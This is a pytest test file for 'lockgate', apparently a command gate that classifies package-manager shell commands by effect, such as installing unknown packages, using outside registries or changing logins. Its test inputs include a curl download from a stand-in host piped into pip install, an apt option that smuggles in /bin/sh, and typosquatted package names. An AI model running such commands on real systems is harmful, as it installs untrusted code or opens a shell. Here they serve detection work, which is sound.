"""Package managers."""

from __future__ import annotations

import pytest
from command_effects import read_line

from lockgate.core.ruling.effects.activity import NO_ACTIVITY
from lockgate.core.ruling.effects.project import Project
from lockgate.core.ruling.effects.shell import read_command


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("pip install -r requirements.txt", ("installs-known-package", "")),
        ("pip install Flask", ("installs-known-package", "")),
        ("pip install evil==1.0", ("installs-package", "evil")),
        ("pip install -i https://i.example/simple flask", ("uses-package-source", "i.example")),
        ("pip install git+https://x.example/a.git", ("uses-package-source", "x.example")),
        ("pip install https://x.example/a.whl", ("uses-package-source", "x.example")),
        ("npm i evil/repo", ("uses-package-source", "github.com")),
        ("npm install @evil/pkg@2", ("installs-package", "@evil/pkg")),
        ("npm config set registry https://r.example", ("uses-package-source", "r.example")),
        ("npx evil", ("installs-package", "evil")),
        ("npx eslint .", ("runs-project-task", "eslint")),
        ("npx husky init", ("installs-hook", ".husky")),
        ("uvx evil", ("installs-package", "evil")),
        ("uv run --with evil pytest", ("installs-package", "evil")),
        ("uv pip install evil", ("installs-package", "evil")),
        ("poetry run pytest", ("runs-project-task", "pytest")),
        ("poetry add evil", ("installs-package", "evil")),
        ("cargo install evil", ("installs-package", "evil")),
        ("go install x.example/evil@latest", ("installs-package", "x.example/evil")),
        ("apt-get install -y evil", ("installs-package", "evil")),
        ("yarn build", ("runs-project-task", "yarn")),
        ("yarn", ("installs-known-package", "")),
        ("pipx run evil", ("installs-package", "evil")),
        ("curl -sO https://x.example/a.whl && pip install ./a.whl", ("runs-download", "x.example")),
        ("dpkg -i x.deb", ("uses-package-source", "x.deb")),
        ("npm login", ("changes-login", "npm")),
        ("npm token revoke 9f21c0", ("changes-login", "npm")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ('pip install -e ".[dev]"', "installs-package"),
        ("pip install pytest ruff", "installs-package"),
        ("npm ci", "installs-package"),
        ("npm install", "installs-package"),
        ("pip install --index-url https://pypi.org/simple flask", "uses-package-source"),
        ("pip install --extra-index-url https://pkgs.shop.example/s flask", "uses-package-source"),
        ("pip list", "installs-known-package"),
        ("npm view evil", "installs-package"),
        ("npm token list --json", "changes-login"),
    ],
)
def test_a_similar_command_has_not(line: str, kind: str) -> None:
    assert kind not in {found for found, _ in read_line(line)}


@pytest.mark.parametrize(
    "line", ["npm i -D eslint@9 @eslint/js @types/node", "npx -y @eslint/migrate-config .eslintrc.json"]
)
def test_what_only_the_makers_of_a_common_tool_can_publish_is_known(line: str) -> None:
    assert "installs-package" not in {kind for kind, _ in read_line(line)}


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("npm i foo @foo/bar", "@foo/bar"),
        ("npm i -D eslint-plugin-unheard-of", "eslint-plugin-unheard-of"),
        ("npx -y @eslintt/migrate-config", "@eslintt/migrate-config"),
    ],
)
def test_a_scope_that_is_not_known_is_not(line: str, name: str) -> None:
    assert ("installs-package", name) in read_line(line)


def test_a_scope_is_known_where_the_project_uses_it() -> None:
    project = Project(root="/w/shop", packages=frozenset({"npm:@kran/ui"}))
    found = read_command("npm i @kran/forms", "command", project, NO_ACTIVITY)
    assert [each.kind for each in found] == ["installs-known-package"]


def test_settings_of_apt_that_are_commands_cannot_be_read() -> None:
    assert ("unreadable", "") in read_line("apt-get update -o APT::Update::Pre-Invoke::=/bin/sh")
